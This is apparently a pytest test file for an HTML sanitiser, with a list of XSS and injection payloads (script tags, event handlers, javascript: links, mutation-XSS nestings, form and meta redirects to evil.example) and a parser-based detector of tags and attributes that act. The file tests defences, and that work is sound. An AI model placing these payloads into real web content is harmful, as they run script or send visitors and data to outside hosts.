"""Nothing that acts gets through, and nothing that we write gets lost."""

from __future__ import annotations

import html5lib
import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown import markdown

from beleg.sanitise import clean_article, clean_note

HOSTILE = [
    "<script>BOOM()</script>",
    "<img src=x onerror=BOOM()>",
    "<svg><script>BOOM()</script></svg>",
    "<svg><a><set attributeName=href to=javascript:BOOM()></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=BOOM()>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=BOOM() onanimationstart=BOOM()>x</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;https://evil.example/'>",
    "<form action=https://evil.example/><input name=x><button>x</button></form>",
    "<iframe srcdoc='<script>BOOM()</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=javascript:BOOM()>x</a>",
    "<a href='java\tscript:BOOM()'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href=//evil.example/x>x</a>",
    "<a href='/\\evil.example/x'>x</a>",
    "<a href='\\\\evil.example/x'>x</a>",
    "<a href='/\t/evil.example/x'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href=ssh://evil.example>x</a>",
    "<a href=sms:110>x</a>",
    "<a ping=https://evil.example/ target=_top href=https://x.de/>x</a>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x' src=x.png>",
    "<img src=data:image/svg+xml,x>",
    "<p id=__config class=md-header>x</p>",
    "<h2 id=__search name=x>x</h2>",
    "<details open ontoggle=BOOM()>x</details>",
    "<map><area href=https://evil.example/></map>",
    "<dialog open>x</dialog>",
    "<template><script>BOOM()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=BOOM()>'>",
]
TAGS_THAT_ACT = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button"),
    *("base", "meta", "link", "map", "area", "template", "noscript", "dialog", "details"),
}
CLEANERS = [clean_note, clean_article, lambda html: clean_article(html, ours=True)]


def faults(html: str) -> list[str]:
    """What could act, change the page's look or call elsewhere, found with another parser."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag in TAGS_THAT_ACT:
            found.append(str(element.tag))
        for name, value in element.attrib.items():
            bare = "".join(value.split()).lower()
            if name.startswith("on") or name in {"style", "srcset", "ping", "target", "srcdoc"}:
                found.append(name)
            if name in {"href", "src"} and (
                bare.startswith(("//", "/\\", "\\"))
                or (":" in bare.partition("/")[0] and not bare.startswith(("http", "mailto:")))
                or (bare.startswith("http") and "://" not in bare)
                or (name == "src" and ":" in bare)
            ):
                found.append(f"{name}={value}")
            if name in {"id", "class"} and not value.startswith(("fn", "s-", "fc-", "footnote")):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("clean", CLEANERS, ids=["note", "article", "ours"])
def test_nothing_that_acts_gets_through(clean, html: str) -> None:  # type: ignore[no-untyped-def]
    assert faults(clean(html)) == []


def test_the_sanitisers_default_would_not_do() -> None:
    assert sum(bool(faults(html)) for html in HOSTILE) >= 25, "the detector is blind"
    assert sum(bool(faults(nh3.clean(html))) for html in HOSTILE) >= 5


@pytest.mark.parametrize("clean", CLEANERS, ids=["note", "article", "ours"])
@given(st.lists(st.sampled_from([*HOSTILE, "</p>", "<p>", "<", "&", "'", '"', "<table>"])))
def test_cleaning_twice_changes_nothing(clean, parts: list[str]) -> None:  # type: ignore[no-untyped-def]
    once = clean("".join(parts))
    assert clean(once) == once
    assert faults(once) == []


def test_what_an_article_is_rendered_to_stays() -> None:
    text = """# Heading

*a* **b** `c` [d](https://x.de/?a=1&b=2) [e](../other/) [f](#s-part) <desk@x.de>[^1]

![g](img/bridge.jpg "h")

3. i
4. j

> k

| l | m |
|--:|---|
| n | o |

***

[^1]: Note.
"""
    html = markdown(text, extensions=["tables", "footnotes", "sane_lists"], output_format="html")
    html = html.replace('style="text-align: right;"', 'align="right"')
    cleaned = clean_article(html)
    assert "".join(html5lib.parseFragment(cleaned).itertext()) == "".join(
        html5lib.parseFragment(html).itertext()
    )
    for piece in (
        '<a href="https://x.de/?a=1&amp;b=2" rel="noopener noreferrer">',
        'href="../other/"',
        'href="#s-part"',
        '<img alt="g" src="img/bridge.jpg" title="h">',
        '<ol start="3">',
        '<th align="right">',
        '<li id="fn:1">',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1"',
        '<div class="footnote">',
    ):
        assert piece in cleaned


OURS = (
    '<mark class="fc-mark" data-id="one two" data-tone="false">x</mark>'
    '<span class="fc-mark" data-id="one" data-tone="context">y</span>'
    '<span class="fc-sr" data-fc-added="">z</span>'
    '<sup class="fc-sup" data-id="one"><a class="fc-ref" id="ref-1" role="doc-noteref" '
    'href="#fn-1" aria-label="Anmerkung 1: falsch">1</a></sup>'
)


def test_our_own_marks_pass_only_where_asked() -> None:
    assert clean_article(OURS, ours=True).replace(' rel="noopener noreferrer"', "") == OURS
    forged = clean_article(OURS)
    assert "fc-" not in forged
    assert "data-" not in forged
    assert "role" not in forged
    assert "fc-" not in clean_note(OURS)


@pytest.mark.parametrize(
    "html",
    [
        '<mark class="fc-mark md-header">x</mark>',
        '<mark data-id="a&quot;b">x</mark>',
        '<mark data-tone="purple">x</mark>',
        '<span style="x" onclick="y" id="a b">x</span>',
        '<a role="button" class="md-button" href="#x">x</a>',
    ],
)
def test_our_attributes_take_our_values_only(html: str) -> None:
    cleaned = clean_article(html, ours=True)
    assert "=" not in cleaned.replace('href="#x"', "").replace('rel="noopener noreferrer"', "")


def test_a_notes_links_say_that_they_lead_away() -> None:
    assert clean_note('<a href="https://x.de" rel="me">x</a>') == (
        '<a href="https://x.de" rel="external noopener noreferrer nofollow">x</a>'
    )
    assert "href" not in clean_note('<a href="../other/">x</a><a href="#x">y</a>')
